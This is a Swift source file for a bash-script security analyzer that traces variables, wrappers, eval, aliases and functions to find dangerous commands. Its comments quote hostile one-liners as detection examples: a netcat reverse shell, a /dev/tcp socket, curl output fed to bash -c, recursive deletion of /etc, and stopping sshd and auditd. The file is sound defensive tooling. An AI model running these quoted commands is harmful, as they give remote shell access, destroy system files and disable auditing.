/// Walks a parsed script in order, works out what each command really runs and asks the
/// rules about it.
///
/// It follows what a reader would have to follow: variables assigned earlier, wrappers
/// such as `sudo` and `xargs`, code hidden in strings (`bash -c`, `eval`, `alias`,
/// here-documents fed to a shell) and in command substitutions. Whatever reaches an
/// interpreter without being resolvable is reported, never assumed harmless.
struct BashAnalyzer {
    /// How many times code inside strings may be re-parsed (`bash -c "eval '...'"`).
    static let maximumEmbeddingDepth = 8

    /// Loops over more items than this are analyzed once, with the item unknown.
    static let maximumUnrolledItems = 16

    let budget: AnalysisBudget

    var resolver = WordResolver()
    var findings: [RawFinding] = []
    /// The start of the pipeline being analyzed.
    var pipelineOffset: Int?
    /// Fixed text the previous command of the pipeline writes, handed to the next one.
    var pendingUpstreamText: String?
    /// Fixed text the command just analyzed writes, if any, when something reads it.
    var staticOutput: String?
    /// The command being analyzed writes into a pipe, so its fixed output matters.
    var outputIsPiped = false
    /// What the script did so far that later commands are judged against.
    var facts = BashScriptFacts()
    /// Functions defined so far, so a call runs their body with its arguments.
    var functions: [String: BashCommand] = [:]
    /// The names of the commands run so far, in order, those in substitutions and in code
    /// strings included: the commands of a construct are the names added while it was analyzed.
    var ran: [String] = []
    /// Where the current definition of each function starts.
    var definitionOffsets: [String: Int] = [:]
    /// Function definitions no call has reached yet, by where they start.
    var uncalledDefinitions: [Int: BashCommand] = [:]
    /// Functions being expanded, against recursion.
    var callStack: Set<String> = []
    let embeddingDepth: Int
    /// For code re-parsed from a string, findings point at the string in the outer script.
    let reportOffset: Int?
    /// The environment's policy lists, when it has any.
    var policyGate: PolicyGate?
    /// The command the rules are looking at, for findings a policy may waive.
    var currentSubject: CommandSubject?

    init(embeddingDepth: Int = 0, reportOffset: Int? = nil, budget: AnalysisBudget = AnalysisBudget()) {
        self.embeddingDepth = embeddingDepth
        self.reportOffset = reportOffset
        self.budget = budget
    }

    mutating func report(_ rule: Rule, at offset: Int, _ detail: String? = nil) {
        findings.append(RawFinding(rule: rule, offset: reportOffset ?? offset, detail: detail, subject: currentSubject))
    }

    // MARK: - Structure

    /// Analyzes a whole script, then the functions it defines but never calls (they may be
    /// called from elsewhere, with any arguments); the names of the commands run are added to ``ran``.
    mutating func analyzeScript(_ script: BashScript) {
        analyze(script.body)
        while let (offset, body) = uncalledDefinitions.min(by: { $0.key < $1.key }) {
            uncalledDefinitions[offset] = nil
            let saved = resolver
            resolver.arguments = nil
            analyze(body, upstream: [])
            resolver = saved
        }
    }

    /// Analyzes a script nested in a command (a substitution); its functions join this script's.
    mutating func analyze(_ script: BashScript) {
        analyze(script.body)
    }

    mutating func analyze(_ list: BashList) {
        // By index, here and in the loops below: the nodes are borrowed from the tree
        // instead of copied out of it, a retain and a release per array they hold.
        for index in list.items.indices {
            analyze(list.items[index].first)
            for rest in list.items[index].rest.indices { analyze(list.items[index].rest[rest].1) }
        }
    }

    mutating func analyze(_ pipeline: BashPipeline) {
        defer { checkShellWiredToNetwork(pipeline) }
        // A pipeline inside a command's words (`$(...)`) must not disturb that command's view
        // of its own pipeline.
        let outer = (pipelineOffset, pendingUpstreamText, staticOutput, outputIsPiped)
        defer { (pipelineOffset, pendingUpstreamText, staticOutput, outputIsPiped) = outer }
        pipelineOffset = pipeline.offset
        var upstream: [String] = []
        var upstreamText: String?
        for position in pipeline.commands.indices {
            pendingUpstreamText = upstreamText
            staticOutput = nil
            outputIsPiped = position < pipeline.commands.count - 1
            let mark = ran.count
            analyze(pipeline.commands[position], upstream: upstream)
            upstreamText = staticOutput
            if outputIsPiped {
                for name in ran[mark...] where !upstream.contains(name) { upstream.append(name) }
            }
        }
    }

    mutating func analyze(_ command: BashCommand, upstream: [String]) {
        guard budget.spend(reportExhaustion: { report(RuleCatalog.tooDeep, at: command.offset, AnalysisBudget.exhaustionDetail) }) else {
            return
        }
        switch command {
        case .simple(let simple):
            analyzeSimple(simple, upstream: upstream)
        case .subshell(let list, let redirects, _), .group(let list, let redirects, _):
            checkRedirects(redirects)
            analyze(list)
        case .ifClause(let branches, let elseBody, let redirects, _):
            checkRedirects(redirects)
            for branch in branches {
                analyze(branch.condition)
                analyze(branch.body)
            }
            if let elseBody { analyze(elseBody) }
        case .loop(_, let condition, let body, let redirects, let offset) where ForkBombDetector.reexecutesItself(body):
            report(RuleCatalog.forkBomb, at: offset, "a loop that starts the script itself again and again")
            checkRedirects(redirects)
            analyze(condition)
            analyze(body)
        case .loop(_, let condition, let body, let redirects, _):
            checkRedirects(redirects)
            analyze(condition)
            analyze(body)
        case .forClause(let variable, let items, let body, let redirects, _):
            checkRedirects(redirects)
            for item in items ?? [] { analyzeSubstitutions(in: item) }
            let values = resolver.resolve(items ?? [])
            if items != nil, values.count <= Self.maximumUnrolledItems, values.allSatisfy({ $0.value != nil && !$0.hasGlob }) {
                // `for s in sshd auditd; do systemctl stop "$s"; done`: each item is a
                // different command; a short known list is followed item by item.
                for value in values {
                    resolver.variables[variable] = value.value.map(VariableValue.known)
                    analyze(body)
                }
                resolver.variables[variable] = .unknown
                return
            }
            resolver.variables[variable] = .unknown
            analyze(body)
        case .arithmeticFor(let header, let body, let redirects, let offset):
            checkRedirects(redirects)
            analyzeArithmetic(header, at: offset)
            analyze(body)
        case .caseClause(let subject, let items, let redirects, _):
            checkRedirects(redirects)
            analyzeSubstitutions(in: subject)
            for item in items { analyze(item.body) }
        case .function(let name, let body, let offset):
            if ForkBombDetector.isForkBomb(name: name, body: body) {
                report(RuleCatalog.forkBomb, at: offset)
            }
            // The body is analyzed where it is called, with the arguments of the call;
            // a definition no call reaches is analyzed at the end with unknown arguments.
            functions[name] = body
            definitionOffsets[name] = offset
            uncalledDefinitions[offset] = body
        case .arithmetic(let expression, let offset):
            // `sh` reads `((cmd))` as nested subshells: commands hidden there are judged too.
            analyzeArithmetic(expression, at: offset)
            analyzeArithmeticAsCommands(expression, at: offset)
        case .conditional(let words, _):
            for word in words { analyzeSubstitutions(in: word) }
        }
    }

    // MARK: - Simple commands

    mutating func analyzeSimple(_ command: BashSimpleCommand, upstream: [String]) {
        let mark = ran.count
        for assignment in command.assignments {
            if let index = assignment.index { analyzeArithmetic(index, at: assignment.offset) }
            if let value = assignment.value { analyzeSubstitutions(in: value) }
            for value in assignment.arrayValues ?? [] { analyzeSubstitutions(in: value) }
        }
        for index in command.words.indices { analyzeSubstitutions(in: command.words[index]) }
        for index in command.redirects.indices {
            analyzeSubstitutions(in: command.redirects[index].target)
            if let parts = command.redirects[index].hereDocument?.parts {
                analyzeSubstitutions(in: parts)
            }
        }
        // `bash -c "$(curl ...)"`: what the substitutions ran, before the command itself.
        let downloadInSubstitutions = ran.count > mark && downloadedSince(mark)
        if command.words.isEmpty {
            checkRedirects(command.redirects, content: "")
            // Plain assignments change what later words resolve to.
            for assignment in command.assignments {
                record(assignment)
            }
            return
        }
        if !command.assignments.isEmpty, let head = command.words.first?.staticValue, BashParser.declarationBuiltins.contains(head) {
            // `local -a cmd=(...)`: the array assignments the parser took from the arguments.
            for assignment in command.assignments where assignment.arrayValues != nil {
                record(assignment)
            }
        }
        let words = resolver.resolve(command.words)
        switch Wrappers.unwrap(words) {
        case .nothing:
            checkRedirects(command.redirects)
        case .dynamic(let word):
            checkRedirects(command.redirects)
            report(RuleCatalog.dynamicCommand, at: word.offset, "'\(word.source)' decides which command runs")
        case .commandString(let string, let wrapper):
            checkRedirects(command.redirects)
            ran.append(wrapper)
            analyzeCodeString(string, downloadInSubstitutions: downloadInSubstitutions)
        case .command(var words, let viaXargs):
            guard let head = words.first, let headValue = head.value else {
                // `exec 5<>/dev/tcp/host/port`: the shell itself talks to a socket.
                if command.redirects.contains(where: { (resolver.resolveWhole($0.target).value ?? "").hasPrefix("/dev/tcp/") }) {
                    report(RuleCatalog.reverseShell, at: command.offset, "the shell opens a connection to a remote host")
                }
                return
            }
            var dynamicArguments: CommandInvocation.DynamicArguments? = viaXargs ? .fromInput : nil
            if viaXargs, let input = pendingUpstreamText {
                // `echo /etc /usr | xargs rm -rf`: the arguments are known.
                words += input.split(whereSeparator: \.isWhitespace).map { .known(String($0), source: input, offset: command.offset) }
                dynamicArguments = nil
            }
            let invocation = CommandInvocation(
                name: Wrappers.baseName(headValue),
                arguments: words.dropFirst(),
                redirects: command.redirects.map { redirect in
                    var resolved = redirect
                    if let value = resolver.resolveWhole(redirect.target).value {
                        resolved.target = BashWord(parts: [.quoted(value)], offset: redirect.target.offset, source: redirect.target.source)
                    }
                    return resolved
                },
                offset: command.offset,
                dynamicArguments: dynamicArguments,
                upstream: upstream,
                pipelineOffset: pipelineOffset,
                workingDirectory: resolver.workingDirectory,
                upstreamText: pendingUpstreamText
            )
            ran.append(invocation.name)
            if outputIsPiped || command.redirects.contains(where: \.writes) {
                staticOutput = StaticOutput.of(invocation) ?? pendingUpstreamText.flatMap { StaticPipeline.filter($0, through: invocation) }
            }
            checkRedirects(invocation.redirects, content: staticOutput)
            if !functions.isEmpty, let body = functions[invocation.name], !callStack.contains(invocation.name),
               embeddingDepth < Self.maximumEmbeddingDepth {
                call(invocation.name, body: body, arguments: invocation.arguments)
                return
            }
            analyzeInvocation(invocation, words: command.words, downloadInSubstitutions: downloadInSubstitutions)
        }
    }

    /// Whether a downloader ran since `mark` in ``ran`` (`bash -c "$(curl ...)"`).
    func downloadedSince(_ mark: Int) -> Bool {
        ran[mark...].contains(where: CommandNames.downloaders.contains)
    }

    /// `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`: a shell in the same pipeline as a
    /// network client is a shell driven from another host.
    mutating func checkShellWiredToNetwork(_ pipeline: BashPipeline) {
        guard pipeline.commands.count > 1 else { return }
        var hasShell = false
        var hasNetworkClient = false
        for command in pipeline.commands {
            guard case .simple(let simple) = command, let head = simple.words.first?.staticValue else { continue }
            let traits = CommandTraits.of(Wrappers.baseName(head))
            if traits.contains(.shell) { hasShell = true }
            if traits.contains(.networkClient) { hasNetworkClient = true }
        }
        if hasShell, hasNetworkClient {
            report(RuleCatalog.reverseShell, at: pipeline.offset, "a shell piped to and from a network client")
        }
    }

    /// A call of a function defined in the script: its body runs with the arguments as
    /// `$1`, `$2`, ... (`ls() { command rm -rf "$@"; }; ls /etc` deletes /etc).
    mutating func call(_ name: String, body: BashCommand, arguments: [ResolvedWord]) {
        if let offset = definitionOffsets[name] { uncalledDefinitions[offset] = nil }
        callStack.insert(name)
        defer { callStack.remove(name) }
        let outerArguments = resolver.arguments
        resolver.arguments = arguments.map(\.value)
        analyze(body, upstream: [])
        resolver.arguments = outerArguments
    }

    /// Runs the rules on an invocation and follows code it hands to interpreters.
    mutating func analyzeInvocation(_ invocation: CommandInvocation, words: [BashWord], downloadInSubstitutions: Bool) {
        if let policyGate {
            let subject = CommandSubject(name: invocation.name, arguments: invocation.arguments.map(\.value))
            findings += policyGate.deniedFindings(for: subject, at: reportOffset ?? invocation.offset)
            currentSubject = subject
        }
        var facts = self.facts
        BashCommandRules.check(invocation, facts: &facts) { rule, offset, detail in
            report(rule, at: offset, detail)
        }
        self.facts = facts
        currentSubject = nil
        guard invocation.traits.contains(.followed) else { return }
        switch invocation.name {
        case "export", "local", "declare", "typeset", "readonly":
            for argument in invocation.arguments {
                guard let value = argument.value else {
                    // `export $(grep -v '^#' .env | xargs)`: names the validator cannot see.
                    resolver.mayHaveUnseenVariables = true
                    continue
                }
                guard let equals = value.firstIndex(of: "="), !value.hasPrefix("-") else { continue }
                let name = String(value[..<equals])
                resolver.variables[name] = .known(String(value[value.index(after: equals)...]))
            }
        case "read", "mapfile", "readarray":
            for argument in invocation.operands {
                if let name = argument.value { resolver.variables[name] = .unknown } else { resolver.mayHaveUnseenVariables = true }
            }
        case "unset":
            for argument in invocation.operands {
                if let name = argument.value { resolver.variables[name] = nil }
            }
        case "eval":
            let code = ResolvedWord.joined(invocation.arguments)
            analyzeCodeString(code, downloadInSubstitutions: downloadInSubstitutions)
        case "alias":
            for argument in invocation.arguments {
                guard let value = argument.value, let equals = value.firstIndex(of: "=") else { continue }
                let body = String(value[value.index(after: equals)...])
                analyzeCodeString(.known(body, source: argument.source, offset: argument.offset), downloadInSubstitutions: false)
            }
        case "source", ".":
            resolver.mayHaveUnseenVariables = true
            analyzeSource(invocation, words: words, downloadInSubstitutions: downloadInSubstitutions)
        case "trap":
            // `trap 'code' SIGNAL...`: the code runs later, in this shell.
            if let code = invocation.operands.first, code.value != "-", code.value != "", invocation.operands.count > 1 {
                analyzeCodeString(code, downloadInSubstitutions: downloadInSubstitutions)
            }
        case "ssh":
            if let remote = RemoteCommand.ssh(invocation.arguments) {
                analyzeCodeString(remote, downloadInSubstitutions: downloadInSubstitutions)
            }
        case "cd", "pushd":
            resolver.changeDirectory(to: invocation.operands.first)
        case "find":
            analyzeFind(invocation, downloadInSubstitutions: downloadInSubstitutions)
        case _ where invocation.traits.contains(.shell):
            analyzeShell(invocation, downloadInSubstitutions: downloadInSubstitutions)
        case _ where invocation.traits.contains(.otherInterpreter):
            analyzeOtherInterpreter(invocation)
        default:
            break
        }
    }

    /// The commands ``analyzeInvocation(_:words:downloadInSubstitutions:)`` follows beyond
    /// the rules: they change variables or run code of their own. Keep it in step with its cases.
    static let commandsFollowed: Set<String> = Set([
        "export", "local", "declare", "typeset", "readonly", "read", "mapfile", "readarray", "unset", "eval", "alias",
        "source", ".", "trap", "ssh", "cd", "pushd", "find",
    ]).union(CommandNames.shells).union(CommandNames.otherInterpreters)

    mutating func record(_ assignment: BashAssignment) {
        if let values = assignment.arrayValues {
            // `cmd=(sudo -u postgres psql)`, `hosts+=(db1)`: known elements stay known.
            let words = resolver.resolve(values)
            let elements = words.compactMap(\.value)
            guard assignment.index == nil, elements.count == words.count, !words.contains(where: \.hasGlob) else {
                resolver.variables[assignment.name] = .unknown
                return
            }
            switch (assignment.append, resolver.variables[assignment.name]) {
            case (false, _): resolver.variables[assignment.name] = .array(elements)
            case (true, .array(let existing)?): resolver.variables[assignment.name] = .array(existing + elements)
            case (true, nil): resolver.variables[assignment.name] = .array(elements)
            default: resolver.variables[assignment.name] = .unknown
            }
            return
        }
        if assignment.index != nil {
            // `list[2]=x`: one element of an array changes.
            resolver.variables[assignment.name] = .unknown
            return
        }
        guard let word = assignment.value else {
            resolver.variables[assignment.name] = .known("")
            return
        }
        let resolved = resolver.resolveWhole(word)
        if assignment.append {
            if case .known(let existing)? = resolver.variables[assignment.name], let value = resolved.value {
                resolver.variables[assignment.name] = .known(existing + value)
            } else {
                resolver.variables[assignment.name] = .unknown
            }
        } else {
            resolver.variables[assignment.name] = resolved.value.map(VariableValue.known) ?? .unknown
        }
    }

    // MARK: - Substitutions and redirections

    mutating func analyzeSubstitutions(in word: BashWord) {
        guard word.plainText == nil else { return }
        analyzeSubstitutions(in: word.parts)
    }

    mutating func analyzeSubstitutions(in parts: [BashWordPart]) {
        for part in parts {
            switch part {
            case .commandSubstitution(let script, _), .processSubstitution(let script, _, _):
                // A substitution runs in a subshell: its assignments do not leak out.
                let saved = resolver
                analyze(script)
                resolver = saved
            case .doubleQuoted(let inner):
                analyzeSubstitutions(in: inner)
            case .parameter(let parameter):
                analyzeSubstitutions(in: parameter.argumentParts)
            case .arithmetic(let expression):
                analyzeArithmetic(expression, at: 0)
            case .literal, .quoted:
                break
            }
        }
    }

    /// Substitutions inside arithmetic (`$(( $(cmd) ))`, `a[$(cmd)]=1`) run too.
    mutating func analyzeArithmetic(_ expression: String, at offset: Int) {
        guard expression.contains("$") || expression.contains("`") else { return }
        var parser = BashParser(bytes: Array(expression.utf8), baseOffset: offset, depth: 0)
        guard let parts = try? parser.parseHereDocumentBody() else {
            report(RuleCatalog.parseError, at: offset, "an arithmetic expression could not be read")
            return
        }
        let mark = ran.count
        analyzeSubstitutions(in: parts)
        if ran.count > mark {
            report(RuleCatalog.dynamicEval, at: offset, "command substitution inside an arithmetic expression")
        }
    }

    /// What redirections write to: devices, sudoers, cron, start-up files, logs emptied.
    mutating func checkRedirects(_ redirects: [BashRedirect], content: String? = nil) {
        for redirect in redirects where redirect.writes && redirect.op != .duplicateOutput {
            let target = resolver.resolveWhole(redirect.target)
            guard let path = target.value, !path.hasPrefix("/dev/tcp/"), !path.hasPrefix("/dev/udp/") else { continue }
            let truncates = redirect.op == .output || redirect.op == .clobber || redirect.op == .outputAndError
            if let policyGate {
                // A redirection is a write by the shell itself: `> FILE` is the whole command.
                let subject = CommandSubject(name: ">", arguments: [path])
                findings += policyGate.deniedFindings(for: subject, at: reportOffset ?? redirect.offset)
                currentSubject = subject
            }
            if let (rule, detail) = FileWriteRules.classify(path, content: content, truncates: truncates && (content ?? "").isEmpty) {
                report(rule, at: redirect.offset, detail)
            }
            currentSubject = nil
        }
    }

}

extension ResolvedWord {
    /// Words joined by spaces, as `eval` does; unknown when any word is.
    static func joined(_ words: [ResolvedWord]) -> ResolvedWord {
        let values = words.map(\.value)
        let source = words.map(\.source).joined(separator: " ")
        let offset = words.first?.offset ?? 0
        if values.allSatisfy({ $0 != nil }) {
            return .known(values.compactMap { $0 }.joined(separator: " "), source: source, offset: offset)
        }
        return ResolvedWord(value: nil, knownPrefix: "", knownSuffix: "", guarded: false, hasGlob: false, source: source, offset: offset)
    }
}
